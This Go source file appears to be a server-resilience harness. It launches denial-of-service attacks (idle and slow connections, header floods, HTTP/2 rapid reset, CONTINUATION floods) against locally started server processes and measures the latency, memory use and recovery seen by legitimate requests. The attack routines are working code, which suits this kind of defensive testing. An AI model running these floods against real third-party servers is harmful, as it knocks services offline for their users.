package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"net"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// assault is one way to keep a server busy. one is what each of its attackers
// does over and over: it is given an address, and returns when it is cut off.
type assault struct {
	name      string
	attackers int
	secure    bool
	one       func(addr, host string)
}

var assaults = []assault{
	{"none", 0, false, nil},
	{"idle connections", 7000, false, silent},
	{"idle TLS connections", 7000, true, func(addr, host string) { overTLS(addr, host, "http/1.1", idle) }},
	{"slow heads", 2000, false, drip("GET / HTTP/1.1\r\nHost: host-0.example\r\nX-")},
	{"slow bodies", 2000, false, drip("POST / HTTP/1.1\r\nHost: host-0.example\r\nContent-Length: 100000\r\n\r\n")},
	{"endless heads", 8, false, flood("GET / HTTP/1.1\r\n", strings.Repeat("X-Header: value\r\n", 200))},
	{"never reading", 200, false, flood("", strings.Repeat("GET / HTTP/1.1\r\nHost: host-0.example\r\n\r\n", 50))},
	{"unknown names", 8, true, func(addr, _ string) { overTLS(addr, "unknown.example", "http/1.1", nil) }},
	{"rapid reset", 8, true, func(addr, host string) { overTLS(addr, host, "h2", rapidReset) }},
	{"CONTINUATION", 8, true, func(addr, host string) { overTLS(addr, host, "h2", continuations) }},
}

const apart = time.Millisecond

// attack is a process that attacks: NAME PLAIN SECURE HOST.
func attack(args []string) {
	for _, a := range assaults {
		if a.name != args[0] {
			continue
		}
		addr := args[1]
		if a.secure {
			addr = args[2]
		}
		for range a.attackers {
			go func() {
				for {
					a.one(addr, args[3])
				}
			}()
			time.Sleep(apart) // together they would show how quickly this machine makes connections
		}
	}
	time.Sleep(time.Hour) // until it is killed
}

func silent(addr, _ string) {
	if c := dial(addr); c != nil {
		idle(c)
	}
}

// idle waits for the server to close.
func idle(c net.Conn) {
	defer c.Close()
	_, _ = io.Copy(io.Discard, c)
}

func dial(addr string) net.Conn {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return nil
	}
	return c
}

func drip(start string) func(addr, host string) {
	return func(addr, _ string) {
		c := dial(addr)
		if c == nil {
			return
		}
		defer c.Close()
		for _, err := io.WriteString(c, start); err == nil; _, err = c.Write([]byte("a")) {
			time.Sleep(time.Second)
		}
	}
}

func flood(start, more string) func(addr, host string) {
	return func(addr, _ string) {
		c := dial(addr)
		if c == nil {
			return
		}
		defer c.Close()
		for _, err := io.WriteString(c, start); err == nil; {
			_, err = io.WriteString(c, more)
		}
	}
}

func overTLS(addr, host, protocol string, then func(net.Conn)) {
	c := dial(addr)
	if c == nil {
		return
	}
	defer c.Close()
	tc := tls.Client(c, &tls.Config{ServerName: host, InsecureSkipVerify: true, NextProtos: []string{protocol}, CurvePreferences: []tls.CurveID{tls.X25519}})
	if tc.Handshake() == nil && then != nil {
		then(tc)
	}
}

// framed introduces an HTTP/2 client and gives a header block.
func framed(c net.Conn) (*http2.Framer, []byte) {
	go func() { _, _ = io.Copy(io.Discard, c) }()
	_, _ = io.WriteString(c, http2.ClientPreface) // what follows fails if this does
	f := http2.NewFramer(c, nil)
	_ = f.WriteSettings()
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "host-0.example"}, {":path", "/"}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return f, block.Bytes()
}

func rapidReset(c net.Conn) {
	f, block := framed(c)
	for id := uint32(1); ; id += 2 {
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}) != nil ||
			f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return
		}
	}
}

func continuations(c net.Conn) {
	f, block := framed(c)
	if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}) != nil {
		return
	}
	for f.WriteContinuation(1, false, nil) == nil {
	}
}

// siege measures what honest visitors notice while each assault goes on.
func (s *site) siege(k kind) error {
	fmt.Printf("\n| attack on %s | attackers | honest p50 | p99 | server MB | after it |\n|---|---|---|---|---|---|\n", k.name)
	for _, a := range assaults {
		p, err := s.startOn(k, "0,1")
		if err != nil {
			return err
		}
		err = p.besiege(a)
		p.stop()
		if err != nil {
			return err
		}
	}
	return nil
}

func (p *process) besiege(a assault) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	attacker := exec.Command(self, "attack", a.name, p.plain, p.secure, p.hosts[0])
	if err := attacker.Start(); err != nil {
		return err
	}
	var most atomic.Int64
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(50 * time.Millisecond):
				most.Store(max(most.Load(), int64(p.resident())))
			}
		}
	}()
	time.Sleep(2*time.Second + 3*apart/2*time.Duration(a.attackers)) // for the attack to unfold
	var took []time.Duration
	failed := 0
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		begun := time.Now()
		if err := p.answers(); err != nil {
			failed++
			log.Printf("%s: an honest visitor failed: %v", a.name, err)
		}
		took = append(took, time.Since(begun))
	}
	close(stop)
	_ = attacker.Process.Kill()
	_ = attacker.Wait() // it was killed
	slices.Sort(took)
	time.Sleep(time.Second)
	if err := p.answers(); err != nil {
		return fmt.Errorf("%s: no recovery: %w", a.name, err)
	}
	fmt.Printf("| %s | %d | %.1f ms | %.1f ms | %d | %.0f MB, %d of %d failed |\n", a.name, a.attackers,
		ms(took[len(took)/2]), ms(took[len(took)*99/100]), most.Load(), p.resident(), failed, len(took))
	return nil
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }
